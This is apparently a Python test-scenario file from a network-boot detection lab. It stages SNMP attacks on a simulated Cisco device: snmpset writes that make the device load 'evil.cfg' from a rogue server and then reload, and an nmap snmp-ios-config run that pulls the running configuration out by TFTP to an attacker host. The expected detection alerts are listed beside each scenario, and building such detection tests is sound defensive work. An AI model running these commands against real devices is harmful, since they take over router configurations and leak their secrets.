"""Orders by SNMP: net-snmp's snmpset, and nmap's script, at a snmpd whose objects answer."""

from __future__ import annotations

from bootwarden.lab.model import act
from bootwarden.lab.programs import listens
from bootwarden.lab.stage import Stage
from bootwarden.scenarios.model import Notice
from bootwarden.scenarios.sites import ADMIN, BOOT_SERVER
from bootwarden.traffic import images

COPY = "1.3.6.1.4.1.9.9.96.1.1.1.1"
"""CISCO-CONFIG-COPY-MIB ccCopyTable's entry."""

RELOAD = "1.3.6.1.4.1.9.2.9.9.0"
"""OLD-CISCO-TS-MIB tsMsgSend."""


ANSWER = """\
#!/bin/sh
# What snmpd asks for the objects: takes every value, and tells the last one.
kept="$KEPT/$2"
case $1 in
-s) echo "$3" >"$kept"; echo "$4" >>"$kept" ;;
*) [ -f "$kept" ] && { echo "$2"; cat "$kept"; } ;;
esac
"""


def agent(stage: Stage) -> None:
    """Run a snmpd on the device that lets the copy table, and the reload, be written."""
    answer = stage.file("answer.sh", ANSWER.replace("$KEPT", str(stage.folder)))
    answer.chmod(0o755)
    lines = [f"pass {COPY} /bin/sh {answer}", f"pass {RELOAD} /bin/sh {answer}"]
    lines += ["rwcommunity private", "rocommunity public", f"agentaddress udp:{stage.address('device')}:161"]
    lines += ["sysDescr Cisco IOS Software, C2900 Software (C2900-UNIVERSALK9-M), Version 15.7(3)M8, RELEASE SOFTWARE"]
    settings = stage.file("snmpd.conf", "\n".join(lines) + "\n")
    stage.serve("device", "snmpd", "-f", "-Lo", "-C", "-c", settings, "-p", "snmpd.pid", ready=listens("udp", 161))


def copy(server: str, row: int) -> list[str]:
    """What snmpset is told so that the device loads a configuration into its running one."""
    columns = ((2, "i", "1"), (3, "i", "1"), (4, "i", "4"), (5, "a", server), (6, "s", "evil.cfg"), (14, "i", "4"))
    return [word for column, kind, value in columns for word in (f"{COPY}.{column}.{row}", kind, value)]


def snmpset(stage: Stage, host: str, *words: str) -> None:
    """Run snmpset, which must be answered without an error."""
    stage.run(host, "snmpset", "-v2c", "-c", "private", "-On", stage.address("device"), *words)


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.21", "attacker": "10.0.6.21"},
    needs=("snmpd", "snmpset"),
    notices=(
        Notice("SNMP_Config_Copy", "10.0.1.21", "10.0.6.121", "evil.cfg"),
        Notice("Remote_Reload", "10.0.1.21"),
        Notice("Netboot_Hijack", "10.0.1.21"),
    ),
    raises=[
        ("BW03", 1, "10.0.6.21", "10.0.1.21"),
        ("BW05", 0, "10.0.6.21", "10.0.1.21"),
        ("BW30", 1, "10.0.6.21", "10.0.1.21"),
    ],
)
def snmp_order(stage: Stage) -> None:
    """A configuration is ordered from a rogue server by SNMP, and then a reload."""
    agent(stage)
    snmpset(stage, "attacker", *copy("10.0.6.121", 111))
    snmpset(stage, "attacker", RELOAD, "i", "2")


@act(
    scenario="bw30-orders-of-the-lab-declared",
    hosts={"device": "10.0.1.22", "admin": ADMIN},
    needs=("snmpd", "snmpset"),
)
def snmp_by_admin(stage: Stage) -> None:
    """An administrator orders the same from the declared server."""
    agent(stage)
    snmpset(stage, "admin", *copy(BOOT_SERVER, 112))


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.23", "attacker": "10.0.6.23"},
    needs=("snmpd", "nmap", "tftp"),
    notices=(
        Notice("SNMP_Config_Copy", "10.0.1.23", "10.0.6.23", "10.0.1.23-config"),
        Notice("Config_Exfiltration", "10.0.1.23", "10.0.6.23", "10.0.1.23-config"),
    ),
    raises=[
        ("BW03", 0, "10.0.6.23", "10.0.1.23"),
        ("BW18", 0, "10.0.1.23", "10.0.6.23"),
    ],
)
def nmap_takes_a_configuration(stage: Stage) -> None:
    """nmap's snmp-ios-config orders a device to send its configuration, and takes it by TFTP."""
    agent(stage)
    stage.file(f".{COPY}.10.9999", "integer\n3\n")  # the copy was successful
    config = stage.file("running-config", images.config("edge23", ("snmp-server community private RW",)))
    words = ("-n", "-Pn", "-sU", "-p161", "--script=snmp-ios-config", "--script-args=creds.snmp=:private")
    log = stage.folder / "attacker-nmap.log"
    with log.open("wb") as out:
        nmap = stage.popen("attacker", "nmap", *words, stage.address("device"), stdout=out, stderr=out)
    stage.wait("nmap's TFTP server", lambda: listens("udp", 69)(nmap.pid))
    put = ("-c", "put", config, "10.0.1.23-config")
    stage.run("device", "tftp", "-m", "octet", stage.address("attacker"), *put)
    stage.wait("nmap's end", lambda: nmap.poll() is not None)
    stage.wait_for_text(log.name, "snmp-server community private RW")
